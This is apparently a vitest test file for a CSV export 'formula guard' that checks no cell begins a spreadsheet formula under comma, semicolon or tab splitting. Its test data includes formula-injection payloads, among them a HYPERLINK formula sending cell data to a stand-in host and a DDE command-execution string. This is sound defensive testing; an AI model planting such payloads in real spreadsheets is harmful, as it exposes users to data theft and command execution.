import { describe, expect, it } from 'vitest';
import { csvDocument } from '../../../common/import/csv-document';
import { neutraliseCell, restoreCell } from '../../../common/import/formula-guard';
import { loadDraft } from '../../../common/import/load';
import { finish } from '../../../common/steps';

/**
 * Every CSV the app writes (import report, devices export, sign-off sheet) goes through
 * csvDocument. A spreadsheet must never run a cell of it as a formula, however it splits the
 * lines: on commas as written, on semicolons (Excel in de, fr, nl, ... opening the file
 * directly), or on tabs.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** The cells a program sees that splits each line on `separator`, honouring quotes only where a cell starts with one. */
function cellsSplitOn(csv: string, separator: string): string[] {
  const cells: string[] = [];
  for (const line of csv.replace(/^\uFEFF/, '').split('\r\n')) {
    let rest = line;
    while (rest !== '') {
      if (rest.startsWith('"')) {
        const end = /^"(?:[^"]|"")*"/.exec(rest)?.[0] ?? rest;
        cells.push(end.slice(1, -1).replaceAll('""', '"'));
        rest = rest.slice(end.length + 1);
      } else {
        const at = rest.indexOf(separator);
        cells.push(at === -1 ? rest : rest.slice(0, at));
        rest = at === -1 ? '' : rest.slice(at + 1);
      }
    }
  }
  return cells;
}

const HOSTILE = [
  'Yealink;=HYPERLINK("http://x.example/?d="&A1,"update")',
  'Polycom\t=cmd|"/c calc"!A0',
  'Desk,@SUM(1+1)',
  'Front;+1-512-555-0100',
  'Lobby; -2+3',
  '=1+1',
];

describe('formula guard', () => {
  it.each([
    [',', 'as written'],
    [';', 'by Excel in a semicolon locale'],
    ['\t', 'on tabs'],
  ])('no cell starts a formula when the file is split on %j (%s)', (separator) => {
    const csv = csvDocument([['name', 'user_agent'], ...HOSTILE.map((value) => [value, `T54W ${value}`])]);
    const starts = cellsSplitOn(csv, separator).filter((cell) => FORMULA_START.test(cell));
    expect(starts).toEqual([]);
  });

  it('quotes a field holding a semicolon or a tab, so a program that honours quotes keeps it whole', () => {
    expect(csvDocument([['Desk;1', 'a\tb', 'plain']])).toBe('\uFEFF"Desk;1","a\tb",plain\r\n');
  });

  it('gives back exactly what it guarded when the importer reads the file again', () => {
    for (const value of [...HOSTILE, 'Desk 1', "'quoted", 'a,b', 'a=b', '\t\tx', ''])
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    const csv = csvDocument([['name', 'mac_address'], ...HOSTILE.map((value, index) => [value, `00:15:65:00:00:0${index}`])]);
    const loaded = finish(loadDraft({ id: 'again', fileName: 'report.csv', bytes: new TextEncoder().encode(csv) }));
    if (!loaded.ok) throw new Error(loaded.error.message);
    expect(loaded.value.rows.map((row) => row.cells[0])).toEqual(HOSTILE.map((value) => value.trim()));
  });
});
